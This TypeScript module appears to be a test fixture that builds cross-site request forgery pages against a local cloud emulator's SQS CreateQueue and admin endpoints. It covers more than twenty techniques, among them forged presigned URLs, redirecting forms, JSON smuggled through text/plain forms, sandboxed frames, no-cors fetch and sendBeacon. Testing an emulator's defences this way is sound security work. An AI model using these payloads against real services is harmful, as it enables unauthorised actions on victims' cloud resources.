/** Where an attack aims, and the queue that stands in the cloud once it has succeeded. */
export interface Aim {
  readonly cloud: string;
  readonly queue: string;
  /** The attacker's own server: `/redirect?to=…` leads on with 302, `/repeat?to=…` with 307. */
  readonly server: string;
}

/** A page as HTML, whose scripts know the queue. */
export const pageOf = (attack: Attack, aim: Aim): string =>
  `<!doctype html><meta charset=utf-8><body><script>const queue = ${JSON.stringify(aim.queue)}</script>${attack(aim)}`;

/** The body of a page that attacks as soon as it is opened, and calls `tell(queue)` when it is through, if it can know. */
export type Attack = (aim: Aim) => string;

const action = ({ cloud, queue }: Aim): string => `${cloud}/?Action=CreateQueue&Version=2012-11-05&QueueName=${queue}`;

/** Signed with a key that nobody has: whoever is not known here is the root user. */
const forged = (aim: Aim): string =>
  `${action(aim)}&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=000000000000%2F20261127%2Fus-east-1%2Fsqs%2Faws4_request&X-Amz-Date=20261127T000000Z&X-Amz-SignedHeaders=host&X-Amz-Signature=00`;

/** `?QUEUE` lets the test see that the request came. */
const admin = ({ cloud, queue }: Aim): string => `${cloud}/_squall/call?${queue}`;
const call = ({ queue }: Aim): string =>
  JSON.stringify({ service: 'sqs', operation: 'CreateQueue', input: { QueueName: queue } });

const element = (html: string) => html.replace('>', ' onload="tell(queue)" onerror="tell(queue)">');
const script = (code: string): string => `<script>${code}</script>`;
const quoted = (text: string): string => JSON.stringify(text);
const fields = (url: string): string =>
  [...new URL(url).searchParams].map(([name, value]) => `<input type=hidden name="${name}" value="${value}">`).join('');

/** Sends a form into a frame of the page, and tells when the frame has its answer. */
const form = (attributes: string, inputs: string): string =>
  `<iframe name=answer></iframe><form target=answer ${attributes}>${inputs}</form>${script(
    `document.querySelector('iframe').onload = () => tell(queue); document.forms[0].submit();`,
  )}`;

const post = (url: string, init: string): string =>
  script(`fetch(${quoted(url)}, { method: 'POST', ${init} }).catch(() => {}).then(() => tell(queue));`);

/** With `enctype=text/plain` a form sends `name=value` as it is, which here is JSON. */
const jsonForm = (aim: Aim) => ({
  attributes: `method=post enctype=text/plain action="${admin(aim)}"`,
  inputs: `<input type=hidden name='${call(aim).replace(/\}$/, ',"tail":"')}' value='"}'>`,
});

function sandboxed(aim: Aim): string {
  const { attributes, inputs } = jsonForm(aim);
  const inner = `<form ${attributes}>${inputs}</form>${script('document.forms[0].submit();')}`;
  return `<iframe sandbox="allow-scripts allow-forms" srcdoc='${inner.replaceAll("'", '&#39;')}'></iframe>`;
}

/** What changes the cloud by a GET, where no Origin is sent. */
export const gets = {
  img: (aim) => element(`<img src="${action(aim)}">`),
  'img, presigned with a forged signature': (aim) => element(`<img src="${forged(aim)}">`),
  'img without a Referer': (aim) => element(`<img referrerpolicy=no-referrer src="${forged(aim)}">`),
  'img that a server redirects': (aim) =>
    element(`<img src="${aim.server}/redirect?to=${encodeURIComponent(forged(aim))}">`),
  script: (aim) => element(`<script src="${action(aim)}"></script>`),
  stylesheet: (aim) => element(`<link rel=stylesheet href="${action(aim)}">`),
  iframe: (aim) => element(`<iframe src="${forged(aim)}"></iframe>`),
  object: (aim) => element(`<object data="${action(aim)}"></object>`),
  'form by GET': (aim) => form(`action="${aim.cloud}/"`, fields(forged(aim))),
  'fetch by GET': (aim) => script(`fetch(${quoted(action(aim))}, { mode: 'no-cors' }).finally(() => tell(queue));`),
  'window.open': (aim) => script(`open(${quoted(forged(aim))});`),
  'window.open without an opener': (aim) => script(`open(${quoted(forged(aim))}, '_blank', 'noopener,noreferrer');`),
  link: (aim) => `<a href="${forged(aim)}">prize</a>${script('document.links[0].click();')}`,
  'meta refresh': (aim) => `<meta http-equiv=refresh content="0;url=${forged(aim)}">`,
  location: (aim) => script(`location = ${quoted(action(aim))};`),
} as const satisfies Record<string, Attack>;

/** What changes the cloud by a POST, without a preflight or with one. */
export const posts = {
  'form by POST': (aim) => form(`method=post action="${aim.cloud}/?${aim.queue}"`, fields(action(aim))),
  'form by POST to the whole page': (aim) =>
    `<form method=post action="${action(aim)}"></form>${script('document.forms[0].submit();')}`,
  'form that a server redirects': (aim) =>
    form(
      `method=post action="${aim.server}/repeat?to=${encodeURIComponent(`${aim.cloud}/?${aim.queue}`)}"`,
      fields(action(aim)),
    ),
  'form of text that is JSON': (aim) => {
    const { attributes, inputs } = jsonForm(aim);
    return form(attributes, inputs);
  },
  'form in a sandboxed frame': sandboxed,
  'fetch without CORS': (aim) => post(admin(aim), `mode: 'no-cors', body: ${quoted(call(aim))}`),
  'fetch without CORS or Referer': (aim) =>
    post(admin(aim), `mode: 'no-cors', referrerPolicy: 'no-referrer', body: ${quoted(call(aim))}`),
  'fetch with the admin header': (aim) => post(admin(aim), `headers: { 'x-squall': '1' }, body: ${quoted(call(aim))}`),
  'fetch with a target': (aim) =>
    post(
      `${aim.cloud}/?${aim.queue}`,
      `headers: { 'x-amz-target': 'AmazonSQS.CreateQueue', 'content-type': 'application/x-amz-json-1.0' }, body: ${quoted(JSON.stringify({ QueueName: aim.queue }))}`,
    ),
  sendBeacon: (aim) => script(`navigator.sendBeacon(${quoted(admin(aim))}, ${quoted(call(aim))});`),
} as const satisfies Record<string, Attack>;
